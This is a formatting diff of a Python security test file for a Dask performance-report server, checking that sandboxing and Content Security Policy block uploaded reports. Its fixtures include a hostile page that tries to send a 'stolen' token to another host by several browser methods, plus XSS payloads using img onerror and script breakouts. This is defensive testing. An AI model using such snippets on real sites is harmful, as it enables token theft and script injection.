@@ -2,6 +2,7 @@
 whose HTML tries every way to contact another host, opened in Chromium from a running
 server, sends that host nothing, while the page's own inline script still runs; a real
 performance report (BokehJS inlined) still renders under the same policy."""
+
 from __future__ import annotations
 
 import http.server
@@ -34,7 +35,9 @@ class Recorder:
                 body = page.encode() if self.path == "/control.html" else b"ok"
                 self.send_response(200)
                 self.send_header("Access-Control-Allow-Origin", "*")
-                self.send_header("Content-Type", "text/html" if self.path.endswith(".html") else "text/plain")
+                self.send_header(
+                    "Content-Type", "text/html" if self.path.endswith(".html") else "text/plain"
+                )
                 self.send_header("Content-Length", str(len(body)))
                 self.end_headers()
                 self.wfile.write(body)
@@ -72,7 +75,7 @@ def hostile_page(other: str) -> str:
   fetch("{other}/fetch?token=dal_stolen").catch(() => {{}});
   new Image().src = "{other}/image-from-js";
   try {{ navigator.sendBeacon("{other}/beacon", "dal_stolen"); }} catch (e) {{}}
-  try {{ new WebSocket("{other.replace('http', 'ws')}/websocket"); }} catch (e) {{}}
+  try {{ new WebSocket("{other.replace("http", "ws")}/websocket"); }} catch (e) {{}}
   try {{ new EventSource("{other}/event-source"); }} catch (e) {{}}
   try {{ const x = new XMLHttpRequest(); x.open("GET", "{other}/xhr"); x.send(); }} catch (e) {{}}
   try {{ window.open("{other}/popup"); }} catch (e) {{}}
@@ -88,9 +91,17 @@ def test_a_report_page_contacts_no_other_host(sqlite_url):
     try:
         with report_server(sqlite_url) as server:
             token = server.token("A")
-            status, body, _ = request(server.url + "/api/reports", method="POST", token=token,
-                                      body={"html": hostile_page(other.url), "twin": {"summary": {}},
-                                            "filename": "r.html", "private": False})
+            status, body, _ = request(
+                server.url + "/api/reports",
+                method="POST",
+                token=token,
+                body={
+                    "html": hostile_page(other.url),
+                    "twin": {"summary": {}},
+                    "filename": "r.html",
+                    "private": False,
+                },
+            )
             assert status == 201
             url = on_report_origin(server, body["report"]["url"])
             status, _, headers = request(url)
@@ -101,9 +112,16 @@ def test_a_report_page_contacts_no_other_host(sqlite_url):
             with chromium() as browser:
                 page = browser.new_page()
                 violations: list[str] = []
-                page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+                page.on(
+                    "console",
+                    lambda m: (
+                        violations.append(m.text) if "Content Security Policy" in m.text else None
+                    ),
+                )
                 page.goto(url)
-                page.wait_for_function("document.getElementById('said').textContent.includes('ran')", timeout=10_000)
+                page.wait_for_function(
+                    "document.getElementById('said').textContent.includes('ran')", timeout=10_000
+                )
                 time.sleep(2)  # the form is sent after 300 ms; give every request time to arrive
                 assert page.url == url  # not navigated away by the form
                 assert page.inner_text("#said") == "the inline script ran"
@@ -116,7 +134,9 @@ def test_a_report_page_contacts_no_other_host(sqlite_url):
                 expected = {"/img", "/fetch?token=dal_stolen", "/image-from-js"}
                 deadline = time.monotonic() + 30
                 while not expected <= set(other.paths) and time.monotonic() < deadline:
-                    time.sleep(0.1)  # each request comes when the page gets to it: wait for those named
+                    time.sleep(
+                        0.1
+                    )  # each request comes when the page gets to it: wait for those named
                 assert expected <= set(other.paths), other.paths
     finally:
         other.close()
@@ -125,19 +145,27 @@ def test_a_report_page_contacts_no_other_host(sqlite_url):
 
 @pytest.fixture
 def client():
-    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, dashboard_address=":0") as cluster, \
-            Client(cluster) as c:
+    with (
+        LocalCluster(
+            n_workers=1, threads_per_worker=1, processes=False, dashboard_address=":0"
+        ) as cluster,
+        Client(cluster) as c,
+    ):
         yield c
     close_readers()
 
 
 def test_a_performance_report_still_renders_under_the_policy(client, sqlite_url, tmp_path):
-    with report_server(sqlite_url) as server, \
-            dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}):
+    with (
+        report_server(sqlite_url) as server,
+        dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}),
+    ):
         with performance_report(filename=str(tmp_path / "r.html")) as report:
             da.ones((100, 100), chunks=50).sum().compute()
         assert report.url is not None
-        assert 'src="https://cdn.bokeh.org' not in (tmp_path / "r.html").read_text()  # BokehJS is inlined
+        assert (
+            'src="https://cdn.bokeh.org' not in (tmp_path / "r.html").read_text()
+        )  # BokehJS is inlined
         with chromium() as browser:
             page = browser.new_page()
             errors: list[str] = []
@@ -149,7 +177,8 @@ def test_a_performance_report_still_renders_under_the_policy(client, sqlite_url,
             assert page.evaluate("Bokeh.documents[0].roots().length") > 0
             assert "Dask Performance Report" in page.evaluate(
                 "Array.from(document.querySelectorAll('*')).map(e => e.shadowRoot ? e.shadowRoot.textContent : '')"
-                ".join(' ') + document.body.textContent")
+                ".join(' ') + document.body.textContent"
+            )
             # distributed's template links a favicon on docs.dask.org: blocked, as it should be.
             assert [e for e in errors if "favicon.ico" not in e] == [], errors
 
@@ -177,25 +206,34 @@ def test_recorded_code_runs_in_no_stored_or_served_report(client, sqlite_url, tm
     """F13: the calling code holds markup.  Dask's own report (the file written, and as
     served from the report origin) and the server's page of the report show it as text;
     none runs it."""
-    with report_server(sqlite_url) as server, \
-            dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}):
+    with (
+        report_server(sqlite_url) as server,
+        dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}),
+    ):
         report = _hostile_code_report(str(tmp_path / "r.html"))
         assert report.url is not None
         assert "onerror=" in report.report["summary"]["code"]  # the twin keeps the code as it was
         with chromium() as browser:
-            for where, url in [("file", (tmp_path / "r.html").as_uri()),
-                               ("report origin", on_report_origin(server, report.url))]:
+            for where, url in [
+                ("file", (tmp_path / "r.html").as_uri()),
+                ("report origin", on_report_origin(server, report.url)),
+            ]:
                 page = browser.new_page()
                 page.goto(url)
                 page.wait_for_function("window.Bokeh && Bokeh.documents.length > 0", timeout=20_000)
                 # Rendered: the code's markup is on screen as the text it is ...
                 deadline = time.monotonic() + 20
-                while "<img src=x onerror=" not in _shown_text(page) and time.monotonic() < deadline:
+                while (
+                    "<img src=x onerror=" not in _shown_text(page) and time.monotonic() < deadline
+                ):
                     page.wait_for_timeout(100)
                 assert "<img src=x onerror=" in _shown_text(page), where
                 assert "</script><script>" in _shown_text(page), where
                 # ... and ran nowhere.
-                assert page.evaluate("window.__pwned === undefined"), (where, page.evaluate("window.__pwned"))
+                assert page.evaluate("window.__pwned === undefined"), (
+                    where,
+                    page.evaluate("window.__pwned"),
+                )
             # The server's own page of the report (from its twin).
             page = browser.new_page()
             errors: list[str] = []
@@ -213,10 +251,16 @@ def test_uploaded_report_html_is_never_served_on_the_servers_origin(store_url):
     on the server's own; without a report origin it is served nowhere.  A private one
     opens there only through the signed link its page hands its account's readers."""
     marker = "uploaded-html-marker"
-    upload = {"html": f"<html><body><p id=m>{marker}</p><script>window.__ran = 1</script></body></html>",
-              "twin": {"summary": {"n_tasks": 1, "code": "<img src=x onerror=\"window.__pwned = 1\">"},
-                       "task_groups": [], "task_stream": [], "profile": {}},
-              "filename": "r.html"}
+    upload = {
+        "html": f"<html><body><p id=m>{marker}</p><script>window.__ran = 1</script></body></html>",
+        "twin": {
+            "summary": {"n_tasks": 1, "code": '<img src=x onerror="window.__pwned = 1">'},
+            "task_groups": [],
+            "task_stream": [],
+            "profile": {},
+        },
+        "filename": "r.html",
+    }
     for settings in ({}, {"report_url": True}):
         port = free_port()
         if settings:
@@ -225,8 +269,12 @@ def test_uploaded_report_html_is_never_served_on_the_servers_origin(store_url):
             token = server.token("A")
             links = {}
             for private in (False, True):
-                status, body, _ = request(server.url + "/api/reports", method="POST", token=token,
-                                          body={**upload, "private": private})
+                status, body, _ = request(
+                    server.url + "/api/reports",
+                    method="POST",
+                    token=token,
+                    body={**upload, "private": private},
+                )
                 assert status == 201, body
                 links[private] = body["report"]["url"]
             for private, url in links.items():
@@ -234,7 +282,10 @@ def test_uploaded_report_html_is_never_served_on_the_servers_origin(store_url):
                 assert status == 200 and marker not in page and "window.__ran" not in page
                 assert "dal-state" in page  # the page rendered from the twin
                 csp = headers["Content-Security-Policy"]
-                assert csp.startswith("sandbox") and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
+                assert (
+                    csp.startswith("sandbox")
+                    and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
+                )
                 # The code is in the page only as JSON text, "<" escaped.
                 assert "<img src=x" not in page
                 other = on_report_origin(server, url)
@@ -245,11 +296,20 @@ def test_uploaded_report_html_is_never_served_on_the_servers_origin(store_url):
                     assert request(other)[0] == 404 and request(other, token=token)[0] == 404
                     import html as html_module
                     import re
+
                     (signed,) = re.findall(r'href="(http://localhost:[^"]+)"', page)
                     other = html_module.unescape(signed)
                 status, served, headers = request(other)
                 assert status == 200 and marker in served
                 assert headers["Content-Security-Policy"].startswith("sandbox")
                 # Nothing else of the server answers on the report origin.
-                for path in ("/api/whoami", "/api/reports", "/login", "/", url.split(server.url)[1] + ".json"):
-                    assert request(f"http://localhost:{server.port}{path}", token=token)[0] == 404, path
+                for path in (
+                    "/api/whoami",
+                    "/api/reports",
+                    "/login",
+                    "/",
+                    url.split(server.url)[1] + ".json",
+                ):
+                    assert (
+                        request(f"http://localhost:{server.port}{path}", token=token)[0] == 404
+                    ), path
